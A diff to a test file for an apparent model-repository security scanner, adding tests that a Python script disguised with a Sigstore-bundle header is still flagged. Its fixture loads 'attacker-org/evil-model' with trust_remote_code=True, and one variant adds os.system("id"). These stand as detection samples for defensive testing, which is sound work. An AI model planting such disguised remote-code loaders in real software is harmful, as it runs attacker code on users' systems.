@@ -2,7 +2,10 @@ import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'nod
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { hasSigstoreBundleHead } from '../../src/discover/catalogue/sniffers.js';
 import { detectFormat } from '../../src/discover/detect.js';
+import { DEFAULT_SKIP_DIRS, walkTree } from '../../src/discover/walk.js';
+import { refsStage } from '../../src/refs/stage.js';
 import { signaturesStage } from '../../src/verify/stage.js';
 import { corpusPath } from '../helpers/corpus.js';
 import { scanWith } from '../helpers/scan.js';
@@ -126,12 +129,60 @@ describe('a model signature under another name than model.sig', () => {
 
 describe('discovery of a Sigstore bundle by content', () => {
   const bundle = Buffer.from('{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json", "verificationMaterial"');
-  it('takes a Sigstore bundle no name claims for a model-signature candidate', () => {
-    expect(detectFormat(bundle, 'models/m/signature.sig', 5000).format).toBe('model-signature');
-    expect(detectFormat(bundle, 'models/m/signature.json', 5000).format).toBe('model-signature');
+  it('marks a Sigstore bundle head no name claims as a candidate only, its format left as it is', () => {
+    expect(hasSigstoreBundleHead(bundle)).toBe(true);
+    expect(hasSigstoreBundleHead(Buffer.concat([Buffer.from(' \r\n\t'), bundle]))).toBe(true);
+    expect(detectFormat(bundle, 'models/m/signature.sig', 5000).format).toBe('other');
+    expect(detectFormat(bundle, 'models/m/signature.json', 5000).format).toBe('other');
   });
   it('leaves a named bundle, and JSON of another kind, as their names say', () => {
     expect(detectFormat(bundle, 'models/m/x.sigstore.json', 5000).format).toBe('sigstore-bundle');
-    expect(detectFormat(Buffer.from('{"mediaType": "text/plain"}'), 'a.json', 30).format).toBe('other');
+    expect(hasSigstoreBundleHead(Buffer.from('{"mediaType": "text/plain"}'))).toBe(false);
+    expect(hasSigstoreBundleHead(Buffer.from('x = {"mediaType": "application/vnd.dev.sigstore.bundle"}'))).toBe(false);
+  });
+});
+
+/**
+ * `{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json"}` is a Python expression statement: a script may open
+ * with it and run anything after it. Its head makes it a candidate, never a signature: it keeps its refs findings and
+ * what `signatures.require` asks of it.
+ */
+describe('a file that only opens like a Sigstore bundle', () => {
+  const HIDDEN = `{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json"}
+from transformers import AutoModel
+model = AutoModel.from_pretrained("attacker-org/evil-model", trust_remote_code=True)
+`;
+
+  it('is walked as the source it is (format other, sigstoreHead)', async () => {
+    root = mkdtempSync(path.join(tmpdir(), 'cp-ms-names-'));
+    writeFileSync(path.join(root, 'load_hidden.py'), HIDDEN);
+    const f = (await walkTree(root, { include: [], exclude: [], skipDirs: DEFAULT_SKIP_DIRS })).files.find(
+      (x) => x.path === 'load_hidden.py',
+    )!;
+    expect(f.format).toBe('other');
+    expect(f.sigstoreHead).toBe(true);
+  });
+
+  it('keeps its trust_remote_code load (CPR002)', async () => {
+    root = mkdtempSync(path.join(tmpdir(), 'cp-ms-names-'));
+    mkdirSync(path.join(root, 'src'));
+    writeFileSync(path.join(root, 'src/load_hidden.py'), HIDDEN);
+    const r = await scanWith(root, [refsStage]);
+    expect(r.findings.filter((f) => f.ruleId === 'CPR002').map((f) => f.location.path)).toEqual(['src/load_hidden.py']);
+  });
+
+  it('must be signed where signatures.require says (CPS003)', async () => {
+    root = mkdtempSync(path.join(tmpdir(), 'cp-ms-names-'));
+    mkdirSync(path.join(root, 'models/n'), { recursive: true });
+    writeFileSync(path.join(root, 'models/n/helper.py'), `${HIDDEN}import os\nos.system("id")\n`);
+    expect(findingsOf(await scan())).toEqual(['CPS003 models/n/helper.py']);
+  });
+
+  it('a Sigstore bundle of something else under a name no format claims must be signed too', async () => {
+    root = mkdtempSync(path.join(tmpdir(), 'cp-ms-names-'));
+    const bundle = corpusPath('sigstore', 'conformance', 'bundle-verify', 'happy-path-v0.3', 'bundle.sigstore.json');
+    mkdirSync(path.join(root, 'models/n'), { recursive: true });
+    writeFileSync(path.join(root, 'models/n/attestation.json'), readFileSync(bundle));
+    expect(findingsOf(await scan())).toEqual(['CPS003 models/n/attestation.json']);
   });
 });
